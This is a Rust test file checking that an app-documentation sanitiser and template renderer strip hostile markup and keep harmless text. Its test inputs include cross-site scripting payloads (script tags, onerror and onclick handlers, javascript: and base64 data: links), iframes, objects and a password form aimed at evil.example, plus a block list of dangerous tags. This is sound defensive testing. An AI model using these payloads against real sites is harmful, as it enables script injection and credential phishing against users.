//! App documentation is written by whoever published the app, so it is hostile until proven
//! otherwise: rendered and sanitised, every way of running code or leaving the page is gone,
//! and the harmless text stays.

use cx_core::docs::{render_documentation, sanitise, DocContext};

fn context(app_name: &str) -> DocContext<'_> {
    DocContext {
        app_name,
        version: "2.1.0",
        publisher: "Mallory Apps",
        account_name: Some("Sandbox Telecom Ltd"),
    }
}

/// Asserts that `html` can run nothing and load nothing but plain formatting, naming `case`.
fn assert_inert(case: &str, html: &str) {
    let lower = html.to_lowercase();
    for banned in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<style",
        "<meta",
        "<svg",
        "<link",
        "<base",
        "javascript:",
        "vbscript:",
    ] {
        assert!(
            !lower.contains(banned),
            "{case}: {banned} survived sanitising: {html}"
        );
    }
    assert!(
        !has_event_handler(&lower),
        "{case}: an on…= handler survived: {html}"
    );
    assert!(
        !lower.contains("href=\"data:"),
        "{case}: a data: link survived: {html}"
    );
}

/// Whether any tag carries an attribute whose name starts with `on`.
fn has_event_handler(html: &str) -> bool {
    html.split('<').skip(1).any(|tag| {
        let tag = tag.split('>').next().unwrap_or_default();
        tag.split(|c: char| c.is_whitespace() || c == '/')
            .skip(1)
            .any(|attribute| attribute.starts_with("on"))
    })
}

#[test]
fn hostile_markup_comes_out_inert_with_its_harmless_text_kept() {
    let cases = [
        ("script", "<p>Intro</p><script>alert(1)</script>", "Intro"),
        (
            "img onerror",
            r#"<p>Logo</p><img src=x onerror=alert(1)>"#,
            "Logo",
        ),
        (
            "javascript link",
            r#"<a href="javascript:alert(1)">Setup guide</a>"#,
            "Setup guide",
        ),
        (
            "javascript link with odd case and spacing",
            r#"<a href=" JaVaScRiPt:alert(1)">Guide</a>"#,
            "Guide",
        ),
        (
            "iframe",
            r#"<p>Video</p><iframe src="https://evil.example/"></iframe>"#,
            "Video",
        ),
        (
            "script inside svg",
            "<svg><script>alert(1)</script><text>Chart</text></svg><p>After</p>",
            "After",
        ),
        (
            "svg onload",
            "<svg onload=alert(1)></svg><p>Diagram</p>",
            "Diagram",
        ),
        (
            "object",
            r#"<object data="https://evil.example/x.swf"></object><p>Plugin</p>"#,
            "Plugin",
        ),
        (
            "embed",
            r#"<embed src="https://evil.example/x.swf"><p>Media</p>"#,
            "Media",
        ),
        (
            "form",
            r#"<form action="https://evil.example/steal"><input name=pw><p>Sign up</p></form>"#,
            "Sign up",
        ),
        (
            "style",
            "<style>body{display:none}</style><p style=\"color:red\">Styled</p>",
            "Styled",
        ),
        (
            "meta refresh",
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Moved</p>"#,
            "Moved",
        ),
        (
            "data: link",
            r#"<a href="data:text/html,<script>alert(1)</script>">Open report</a>"#,
            "Open report",
        ),
        (
            "data: link in base64",
            r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Report</a>"#,
            "Report",
        ),
        (
            "handler on a kept tag",
            r#"<p onclick="alert(1)" onmouseover="alert(2)">Click me</p>"#,
            "Click me",
        ),
    ];

    for (case, hostile, text) in cases {
        let clean = sanitise(hostile);

        assert_inert(case, &clean);
        assert!(
            clean.contains(text),
            "{case}: the harmless text \"{text}\" is kept: {clean}"
        );
        assert!(
            !clean.contains("alert("),
            "{case}: no trace of the payload is left to run: {clean}"
        );
    }
}

#[test]
fn an_app_name_full_of_markup_stays_text_even_in_a_triple_stash() {
    let name = "Evil<script>alert(1)</script><img src=x onerror=alert(2)>";
    let template = "<h1>{{app_name}}</h1><p>{{{app_name}}} by {{{publisher}}}</p>";

    let html = render_documentation(template, &context(name));

    assert_inert("triple stash", &html);
    assert!(
        html.starts_with("<h1>Evil&lt;script&gt;"),
        "the double stash escapes the name into text: {html}"
    );
    assert!(
        html.contains("by Mallory Apps"),
        "the rest is rendered: {html}"
    );
}

#[test]
fn a_template_helper_cannot_smuggle_markup_past_the_sanitiser() {
    let template = concat!(
        r#"{{#if app_name}}<a href="javascript:go('{{app_name}}')" onclick="x()">Go</a>{{/if}}"#,
        "{{{{raw}}}}<script>{{app_name}}</script>{{{{/raw}}}}",
    );

    let html = render_documentation(template, &context("Dialer"));

    assert_inert("helpers and raw blocks", &html);
    assert!(html.contains("Go"), "the link text is kept: {html}");
}

#[test]
fn https_and_mailto_links_survive_and_open_with_noopener_noreferrer() {
    let html = sanitise(
        r#"<p>See <a href="https://docs.connexcs.com/apps" target="_self">the docs</a> or
           <a href="mailto:support@example.com">write to us</a>.</p>"#,
    );

    assert!(
        html.contains(r#"href="https://docs.connexcs.com/apps""#),
        "https links are kept: {html}"
    );
    assert!(
        html.contains(r#"href="mailto:support@example.com""#),
        "mailto links are kept: {html}"
    );
    assert_eq!(
        html.matches(r#"rel="noopener noreferrer""#).count(),
        2,
        "every link opens without handing the app's window to the target: {html}"
    );
    assert!(
        !html.contains("target=\"_self\""),
        "a link cannot aim at the app's own window"
    );
}

#[test]
fn images_may_be_inline_data_but_links_may_not() {
    let pixel = concat!(
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ",
        "DwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
    );
    let html = sanitise(&format!(
        r#"<img src="{pixel}" alt="Diagram"><a href="{pixel}">Download the diagram</a>"#
    ));

    assert!(
        html.contains(&format!(r#"src="{pixel}""#)),
        "an inline image is a picture, not a page: {html}"
    );
    assert!(
        !html.contains(&format!(r#"href="{pixel}""#)),
        "a data: URL as a link target opens content of its own choosing: {html}"
    );
    assert!(
        html.contains("Download the diagram"),
        "the link text stays: {html}"
    );
}

#[test]
fn the_sandboxs_own_documentation_keeps_its_structure() {
    let template = "<h1>{{app_name}}</h1>\n<p>Version {{version}}, for {{company_name}}.</p>\n\
                    <table><thead><tr><th>Field</th></tr></thead>\
                    <tbody><tr><td><code>cx_api_user</code></td></tr></tbody></table>";

    let html = render_documentation(template, &context("DID Spam Score"));

    assert_eq!(
        html,
        "<h1>DID Spam Score</h1>\n<p>Version 2.1.0, for Sandbox Telecom Ltd.</p>\n\
         <table><thead><tr><th>Field</th></tr></thead>\
         <tbody><tr><td><code>cx_api_user</code></td></tr></tbody></table>",
        "headings, tables and code pass through untouched"
    );
}
